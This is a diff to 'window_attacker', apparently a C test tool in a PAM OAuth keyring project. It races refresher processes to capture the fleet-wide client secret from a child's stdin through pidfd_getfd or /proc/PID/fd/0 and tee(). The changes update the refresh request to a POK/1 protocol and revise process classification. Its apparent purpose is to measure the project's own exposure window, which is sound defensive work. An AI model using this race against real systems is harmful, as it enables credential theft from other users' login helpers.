@@ -3,11 +3,11 @@
  * that waits on its stdin (the client secret is the whole fleet's).
  *
  *   window_attacker getfd REFRESHER_PID SOCKET SECRET TRIES
- *       TRIES times: ask the refresher on SOCKET for a refresh ("refresh 86400"), which makes
- *       it start a child helper; take that child's fd 0 with pidfd_getfd and peek at it
+ *       TRIES times: ask the refresher on SOCKET for a refresh (min_valid 86400), which makes
+ *       it start a child; take that child's fd 0 with pidfd_getfd and peek at it
  *       (MSG_PEEK: nothing is consumed, the refresh goes on).
  *   window_attacker procfd SECRET TRIES SECONDS
- *       watch for new "pam_oauth_keyring_helper refresher" processes (someone else starts
+ *       watch for new "pam_oauth_keyring_refresher" processes (someone else starts
  *       them: each login does), open their /proc/PID/fd/0 and tee() what waits in it.
  *
  * Prints "tries N successes M": a try is a helper process found in time to race it; a
@@ -52,13 +52,15 @@ static bool holds_secret(const char *data, size_t length, const char *secret)
 static void trigger_refresh(const char *socket_path)
 {
     struct sockaddr_un address = {.sun_family = AF_UNIX};
-    static const char line[] = "refresh 86400\n";
+    /* One POK/1 request (common/protocol_table.h), then end of file. */
+    static const char request[] = "POK/1 refresh\nmin_valid 5\n86400\nend\n";
     char reply[512];
     int fd = socket(AF_UNIX, SOCK_STREAM, 0);
 
     snprintf(address.sun_path, sizeof(address.sun_path), "%s", socket_path);
     if (fd < 0 || connect(fd, (struct sockaddr *)&address, sizeof(address)) != 0 ||
-        write(fd, line, sizeof(line) - 1) != (ssize_t)(sizeof(line) - 1))
+        write(fd, request, sizeof(request) - 1) != (ssize_t)(sizeof(request) - 1) ||
+        shutdown(fd, SHUT_WR) != 0)
         _exit(1);
     while (read(fd, reply, sizeof(reply)) > 0)
         ;
@@ -171,12 +173,14 @@ static int attack_getfd(pid_t refresher, const char *socket_path, const char *se
 
 /* --- procfd ------------------------------------------------------------------------------ */
 
-/* 1 for a refresher, 0 for anything else, -1 while it is not yet known (not exec'd yet). */
+/* 1 for a refresher ("pam_oauth_keyring_refresher SERVICE"), 0 for anything else (its
+ * children have a request before the service), -1 while it is not yet known (a login helper's
+ * fork, not exec'd yet). */
 static int classify(pid_t pid)
 {
     char path[64], command[256];
     ssize_t length;
-    int fd;
+    int fd, arguments = 0;
 
     snprintf(path, sizeof(path), "/proc/%d/cmdline", (int)pid);
     fd = open(path, O_RDONLY | O_CLOEXEC);
@@ -186,12 +190,14 @@ static int classify(pid_t pid)
     close(fd);
     if (length <= 0)
         return 0;
-    if (strcmp(command, "pam_oauth_keyring_helper") != 0)
+    command[length] = '\0';
+    if (strcmp(command, "pam_oauth_keyring_helper") == 0)
+        return -1;
+    if (strcmp(command, "pam_oauth_keyring_refresher") != 0)
         return 0;
-    return (size_t)length > strlen(command) + 1 &&
-                   strcmp(command + strlen(command) + 1, "refresher") == 0
-               ? 1
-               : -1;
+    for (ssize_t i = 0; i < length; i++)
+        arguments += command[i] == '\0';
+    return arguments == 2 ? 1 : 0;
 }
 
 static bool tee_for_secret(int fd, const char *secret)
